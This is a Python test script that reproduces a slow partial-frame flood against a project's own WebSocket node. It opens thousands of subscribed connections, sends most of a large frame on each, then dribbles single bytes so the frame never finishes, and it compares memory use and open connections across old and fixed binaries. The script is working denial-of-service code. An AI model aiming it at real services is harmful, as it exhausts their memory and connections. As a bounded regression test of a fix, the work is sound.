#!/usr/bin/env python3
"""Issue 26's second attack: many subscribed connections each holding a
large frame open, a byte at a time, and what it costs the node.

Starts a fresh node from each --binary in turn (alternating, --runs times
each), opens --connections WebSockets that subscribe, then on each sends a
frame header announcing 65,536 bytes and 65,000 of its payload, and then
one more payload byte every --dribble seconds, never finishing the frame.
Reads /stats at --hold seconds: the node's RSS added, the connections still
open, the closes by reason, and (where the node reports it) what it holds
of partial input. A node that counts only whole frames as a heartbeat's
answer, and gives a partial message a deadline of its own, closes them all
and gives the memory back; one that takes any byte as a sign of life holds
them for as long as the attacker dribbles.

    python3 scripts/partial_frame_flood.py --binary old/myriad \\
        --binary target/release/myriad --connections 2000 --runs 3

Bounded: --hold seconds of dribbling per run, then every socket is closed
and the node stopped.
"""

import argparse
import statistics
import time

from attack_node import alternate, node, open_websocket, stats

ANNOUNCED = 65_536
SENT_AT_ONCE = 65_000


def frame(payload):
    """A masked (zero mask) client text frame of `payload` under 126 bytes."""
    return bytes([0x81, 0x80 | len(payload)]) + b"\0\0\0\0" + payload


def subscribed_socket(ws_addr, subject):
    sock = open_websocket(ws_addr)
    sock.sendall(frame(b'{"op":"subscribe","subject":"%s"}' % subject.encode()))
    # The opening of a large frame: 64-bit length, zero mask, most of it.
    sock.sendall(bytes([0x81, 0x80 | 127]) + ANNOUNCED.to_bytes(8, "big")
                 + b"\0\0\0\0" + b" " * SENT_AT_ONCE)
    sock.setblocking(False)
    return sock


def still_open(sock):
    """Drains what the node sent; False once it closed or reset."""
    try:
        while True:
            if not sock.recv(65536):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def attack(binary, connections, hold, dribble):
    socks = []
    with node(binary) as ready:
        try:
            admin = ready["admin"]
            before = stats(admin)["process"]["rss_bytes"]
            for n in range(connections):
                socks.append(subscribed_socket(ready["ws"], f"p{n}"))
            opened = time.monotonic()
            peak = 0
            while time.monotonic() - opened < hold:
                time.sleep(dribble)
                for sock in socks:
                    try:
                        sock.send(b" ")
                    except OSError:
                        pass
                peak = max(peak, stats(admin)["process"]["rss_bytes"])
            after = stats(admin)
            alive = sum(still_open(s) for s in socks)
            return {
                "connections": connections,
                "hold_s": hold,
                "rss_peak_added_mib": (peak - before) / 2**20,
                "rss_added_mib": (after["process"]["rss_bytes"] - before) / 2**20,
                "open_at_end": alive,
                "node_connections": after["connections"],
                "closes": {k: v for k, v in after["closes"].items() if v},
                "partial_input_bytes": after.get("partial_input_bytes"),
            }
        finally:
            for sock in socks:
                sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--binary", action="append", required=True,
                        help="a myriad binary; give two to compare them, alternating")
    parser.add_argument("--connections", type=int, default=2_000)
    parser.add_argument("--hold", type=float, default=45.0, help="seconds of dribbling")
    parser.add_argument("--dribble", type=float, default=10.0,
                        help="seconds between one byte and the next on each connection")
    parser.add_argument("--runs", type=int, default=3)
    args = parser.parse_args()
    results = alternate(args.binary, args.runs, lambda binary: attack(
        binary, args.connections, args.hold, args.dribble))
    for binary, runs in results.items():
        added = statistics.median(r["rss_added_mib"] for r in runs)
        peak = statistics.median(r["rss_peak_added_mib"] for r in runs)
        alive = statistics.median(r["node_connections"] for r in runs)
        print(f"{binary}: RSS added at {args.hold:.0f} s {added:.1f} MiB (peak {peak:.1f}), "
              f"connections the node still holds {alive:.0f} (medians of {len(runs)})")


if __name__ == "__main__":
    main()
